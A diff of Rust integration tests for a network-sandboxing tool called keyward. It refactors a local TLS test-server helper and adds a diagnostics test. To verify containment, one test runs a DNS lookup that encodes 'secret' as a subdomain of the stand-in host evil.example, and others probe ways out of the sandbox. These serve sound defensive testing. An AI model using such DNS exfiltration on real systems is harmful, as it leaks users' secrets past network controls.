@@ -5,10 +5,13 @@
 #[path = "support/session.rs"]
 mod session;
 mod support;
+#[path = "support/upstream.rs"]
+mod upstream;
 
 use session::Session;
 use std::process::Command;
-use support::{Beside, Stage, Who, eventually, keyward, processes_with, refused, stderr, stdout};
+use support::{Stage, eventually, keyward, processes_with, refused, stderr, stdout};
+use upstream::Upstream;
 
 /// A TLS server for api.example.test and other.example.test; each answer says the method, the host and the path.
 const SERVER: &str = r#"
@@ -33,57 +36,8 @@ print("ready", flush=True)
 tls.serve_forever()
 "#;
 
-/// A server of the host's, with a certificate that only the user's policy trusts.
-struct Upstream {
-    _server: Beside,
-    port: String,
-    folder: tempfile::TempDir,
-}
-
-impl Upstream {
-    fn new() -> Self {
-        let folder = tempfile::Builder::new().prefix("keyward upstream").tempdir_in("/srv").unwrap();
-        let at = folder.path().to_str().unwrap().to_owned();
-        std::fs::set_permissions(folder.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
-        let certificate = |name: &str, more: &[&str]| {
-            let made = Command::new("openssl")
-                .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"])
-                .args(["-days", "30", "-subj", &format!("/CN={name}")])
-                .args(["-keyout", &format!("{at}/{name}.key"), "-out", &format!("{at}/{name}.pem")])
-                .args(more)
-                .output()
-                .unwrap();
-            assert!(made.status.success(), "{}", stderr(&made));
-        };
-        certificate("authority", &[]);
-        let (ca, key) = (format!("{at}/authority.pem"), format!("{at}/authority.key"));
-        let names = "subjectAltName=DNS:api.example.test,DNS:other.example.test";
-        let own = ["-addext", "basicConstraints=critical,CA:FALSE", "-addext", names];
-        certificate("server", &[&["-CA", &ca, "-CAkey", &key][..], &own].concat());
-        std::fs::write(folder.path().join("server.py"), SERVER).unwrap();
-        let stage = Stage::new(Who::User);
-        let server = stage.beside_and_ready(
-            Command::new("/usr/bin/python3").arg(folder.path().join("server.py")).arg(folder.path()),
-        );
-        let port = std::fs::read_to_string(folder.path().join("port")).unwrap();
-        Upstream { _server: server, port, folder }
-    }
-
-    /// The user's policy leads both hosts to the server.
-    fn policy(&self, stage: &Stage) {
-        let (port, ca) = (&self.port, self.folder.path().join("authority.pem"));
-        let host = |host: &str| {
-            format!("[net.upstream.\"{host}\"]\naddress = \"127.0.0.1:{port}\"\nca = \"{}\"\n", ca.display())
-        };
-        let text = format!("version = 1\n{}{}", host("api.example.test"), host("other.example.test"));
-        stage.home_file(".config/keyward/policy.toml", &text);
-    }
-}
-
-fn stage_with(upstream: &Upstream) -> Stage {
-    let stage = Stage::new(Who::User);
-    upstream.policy(&stage);
-    stage
+fn upstream() -> Upstream {
+    Upstream::new(SERVER, &["api.example.test", "other.example.test"])
 }
 
 /// Reads the request of a client in each way that clients read certificates; none of them is told of a proxy.
@@ -97,8 +51,8 @@ const CLIENTS: &[&str] = &[
 
 #[test]
 fn real_clients_reach_a_host_whose_requests_are_read() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     for client in CLIENTS {
         let output = stage.caged_with(&["--allow-net", "GET api.example.test/a*"], client);
         assert_eq!(stdout(&output), "GET api.example.test /a\n", "{client}: {}", stderr(&output));
@@ -108,8 +62,8 @@ fn real_clients_reach_a_host_whose_requests_are_read() {
 /// Java reads a keystore of its own, and a program of Go is static and asks the resolver itself.
 #[test]
 fn programs_with_a_keystore_or_without_a_c_library_are_served_as_well() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let java = "import java.net.URI; import java.net.http.*;\n\
         public class Get { public static void main(String[] a) throws Exception { System.out.print(HttpClient.newHttpClient().send(\
         HttpRequest.newBuilder(URI.create(\"https://api.example.test/a\")).build(), HttpResponse.BodyHandlers.ofString()).body()); } }\n";
@@ -135,8 +89,8 @@ fn programs_with_a_keystore_or_without_a_c_library_are_served_as_well() {
 
 #[test]
 fn a_host_without_method_or_path_is_passed_on_with_its_own_certificate() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let ca = std::fs::read_to_string(upstream.folder.path().join("authority.pem")).unwrap();
     stage.project_file("ca.crt", &ca);
     let output = stage.caged_with(
@@ -149,8 +103,8 @@ fn a_host_without_method_or_path_is_passed_on_with_its_own_certificate() {
 
 #[test]
 fn what_no_rule_allows_is_refused_and_the_flag_is_told() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let output = stage.caged_with(
         &["--allow-net", "GET api.example.test/a"],
         "curl -s -o answer -w '%{http_code} ' -d x https://api.example.test/a; cat answer; \
@@ -172,8 +126,8 @@ fn what_no_rule_allows_is_refused_and_the_flag_is_told() {
 
 #[test]
 fn the_outcome_the_record_and_why_say_the_same() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let output = stage.caged_with(
         &["--allow-net", "GET api.example.test/a", "--json"],
         "curl -s https://api.example.test/a; curl -s https://other.example.test/; true",
@@ -243,8 +197,8 @@ way("transparent", lambda: socket.socket().setsockopt(socket.SOL_IP, 19, 1))
 
 #[test]
 fn every_other_way_out_fails_at_once_with_an_errno() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     stage.python("ways.py", WAYS_OUT);
     let output = stage.caged_with(&["--allow-net", "api.example.test"], "python3 ways.py");
     let said = stdout(&output);
@@ -257,8 +211,8 @@ fn every_other_way_out_fails_at_once_with_an_errno() {
 
 #[test]
 fn the_cages_own_servers_keep_working() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let script = r#"
 import socket, threading
 for family, address, kinds in ((socket.AF_INET, "127.0.0.1", 2), (socket.AF_INET6, "::1", 2), (socket.AF_INET, "0.0.0.0", 1)):
@@ -281,8 +235,8 @@ print("WORKED")
 
 #[test]
 fn names_carry_nothing_out_and_are_answered_at_once() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let output = stage.caged_with(
         &["--allow-net", "api.example.test"],
         "getent ahosts api.example.test | cut -d' ' -f1 | sort -u; getent hosts c2VjcmV0.evil.example; echo $?",
@@ -351,8 +305,8 @@ fn a_port_of_the_cage_is_published() {
 
 #[test]
 fn a_session_has_one_proxy_and_is_allowed_more_while_it_runs() {
-    let upstream = Upstream::new();
-    let session = Session { stage: stage_with(&upstream), name: "work".into() };
+    let upstream = upstream();
+    let session = Session { stage: upstream.stage(), name: "work".into() };
     session.start(&["--allow-net", "GET api.example.test/a"]);
     assert_eq!(session.said("curl -sS https://api.example.test/a"), "GET api.example.test /a\n");
     let denied = session.exec(&[], "curl -sS https://other.example.test/b");
@@ -372,8 +326,8 @@ fn a_session_has_one_proxy_and_is_allowed_more_while_it_runs() {
 
 #[test]
 fn without_its_proxy_every_connection_fails_and_the_user_is_told() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let script = "curl -sS https://api.example.test/a && touch reached && \
         until [ -e killed ]; do sleep 0.05; done; curl -sS --max-time 60 https://api.example.test/a; echo $?";
     let mut running = stage.keyward_run(&["--allow-net", "GET api.example.test/a"], &["sh", "-c", script]);
@@ -392,8 +346,8 @@ fn without_its_proxy_every_connection_fails_and_the_user_is_told() {
 
 #[test]
 fn the_proxy_ends_with_its_launcher() {
-    let upstream = Upstream::new();
-    let stage = stage_with(&upstream);
+    let upstream = upstream();
+    let stage = upstream.stage();
     let running = stage.beside_and_ready(
         &mut stage.keyward_run(&["--allow-net", "api.example.test"], &["sh", "-c", "echo ready; sleep 600"]),
     );
@@ -425,4 +379,35 @@ fn flags_that_exclude_each_other_are_refused() {
     // A project can only narrow.
     stage.project_file(".keyward.toml", "version = 1\n[net]\nallow = [\"evil.example\"]\n");
     refused(stage.caged("true"), 120, "the project file may only narrow");
+}
+
+#[test]
+fn doctor_says_whether_rules_work_here() {
+    let stage = Stage::user();
+    let said = |program: &std::path::Path| {
+        let words = stdout(&stage.command(program).arg("doctor").output().unwrap());
+        let json = stdout(&stage.command(program).args(["doctor", "--json"]).output().unwrap());
+        (words, serde_json::from_str::<serde_json::Value>(&json).unwrap()["network_rules"].clone())
+    };
+    let (words, json) = said(keyward().as_ref());
+    assert!(words.contains("network rules: available; the proxy starts\n"), "{words}");
+    assert_eq!(json, serde_json::json!({ "available": true, "trouble": null }));
+    // A certificate that is not there stops each such run, and so it does here.
+    let file =
+        stage.home_file(".config/keyward/policy.toml", "version = 1\nnet.ca = [\"/nowhere/ca.pem\"]\n");
+    let (words, json) = said(keyward().as_ref());
+    assert!(
+        words.contains("network rules: not available: cannot read the certificate /nowhere/ca.pem"),
+        "{words}"
+    );
+    assert_eq!(json["available"], false);
+    let output = stage.caged_with(&["--net", "rules"], "true");
+    assert!(stderr(&output).contains("cannot read the certificate /nowhere/ca.pem"), "{}", stderr(&output));
+    std::fs::remove_file(file).unwrap();
+    // A launcher without the second program.
+    let alone = stage.elsewhere().join("keyward");
+    std::fs::copy(keyward(), &alone).unwrap();
+    let (words, json) = said(&alone);
+    assert!(words.contains("network rules: not available: cannot start "), "{words}");
+    assert_eq!(json["available"], false);
 }
